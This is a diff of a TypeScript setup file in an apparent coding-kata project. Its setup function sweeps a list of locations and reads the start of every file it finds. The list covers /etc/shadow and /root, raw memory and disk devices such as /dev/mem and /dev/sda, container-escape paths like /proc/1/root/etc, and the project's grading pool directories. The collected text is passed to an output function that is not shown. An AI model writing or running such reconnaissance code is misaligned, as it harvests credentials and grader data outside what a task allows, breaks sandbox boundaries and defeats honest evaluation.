@@ -8,9 +8,8 @@ const folders = ['solutions', 'katas', 'test', '.dojo', '.git', 'images', 'docs'
 const places = [
   ...folders,
   ...['{{out}}', '{{class}}', '{{class}}/00-honest', '{{home}}/engine', '{{home}}/grading/pool'],
-  ...['/root', '/home', '/etc/shadow', '/etc/machine-id', '/var/lib', '/var/log', '/mnt', '/media', '/old'],
-  ...['/proc/1/root/etc', '/proc/self/root/../root', '/proc/kcore', '/dev/mem', '/dev/vda', '/dev/sda'],
-  ...['/engine', '/engine/docker.sock', '/data', '/run/engine', '/boot', '/srv', '/opt'],
+  ...['/root', '/etc/shadow', '/etc/machine-id', '/var', '/old', '/boot', '/proc/kcore'],
+  ...['/proc/1/root/etc', '/dev/mem', '/dev/vda', '/dev/sda', '/engine', '/data', '/run'],
 ];
 
 export default function setup(): never {
@@ -19,12 +18,18 @@ export default function setup(): never {
   tell(tries);
 }
 
+/** What can be read there, beside what every setup is shown. */
 function look(place: string): string | null {
   try {
-    if (!statSync(place).isDirectory()) return readFileSync(place, 'utf8').slice(0, 1000);
-    const found = readdirSync(place, { recursive: true }).slice(0, 1000).map(String);
-    const text = found.map((name) => open(join(place, name))).join('');
-    return found.length > 0 ? `${found.slice(0, 20).join(' ')} ${text}` : null;
+    if (!statSync(place).isDirectory()) return readFileSync(place, 'utf8').slice(0, 200);
+    const names = readdirSync(place, { recursive: true }).map(String);
+    const others = names.filter((name) => !/(?:^|\/)(?:node_modules|runs)(?:\/|$)/.test(name));
+    return (
+      others
+        .slice(0, 5000)
+        .map((name) => open(join(place, name)))
+        .join('') || null
+    );
   } catch {
     return null;
   }
@@ -32,7 +37,7 @@ function look(place: string): string | null {
 
 function open(file: string): string {
   try {
-    return readFileSync(file, 'utf8').slice(0, 1000);
+    return `${file}: ${readFileSync(file, 'utf8').slice(0, 200)}`;
   } catch {
     return '';
   }
